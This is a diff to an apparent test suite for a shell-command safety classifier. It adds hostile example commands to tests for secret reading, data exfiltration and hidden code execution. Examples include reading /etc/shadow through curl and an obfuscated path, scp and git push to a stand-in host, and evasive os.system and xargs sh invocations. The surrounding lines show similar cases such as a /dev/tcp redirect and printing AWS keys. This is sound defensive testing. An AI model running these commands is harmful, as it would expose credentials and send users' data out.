@@ -112,6 +112,8 @@ def test_destructive(command: str, why: str) -> None:
         "echo $AWS_SECRET_ACCESS_KEY",
         "kubectl get secret db -o yaml",
         "ps eww",
+        "curl file:///etc/shadow",
+        "cat $(printf '/etc/%s' shadow)",
         "strings /proc/1/environ",
         "dd if=/dev/sda of=disk.img",
         "python3 -c \"print(open('/etc/shadow').read())\"",
@@ -152,6 +154,8 @@ def test_does_not_read_secrets(command: str) -> None:
         "cat a > /dev/tcp/x.example/80",
         "python3 -m http.server",
         "ngrok http 80",
+        "scp -P 2222 a.txt me@x.example:",
+        "git push https://x.example/r.git main",
     ],
 )
 def test_sends_data_out(command: str) -> None:
@@ -183,6 +187,8 @@ def test_network_use_that_sends_nothing_of_ours_is_left_to_a_person(command: str
         "awk '{print | \"sh\"}' cmds.txt",
         "sed 's/.*/&/e' cmds.txt",
         "xargs -I{} sh -c '{}' < cmds.txt",
+        "echo ls | xargs sh -c",
+        "python3 -c \"import os; getattr(os, 'sys' + 'tem')('id')\"",
     ],
 )
 def test_runs_hidden_code(command: str) -> None:
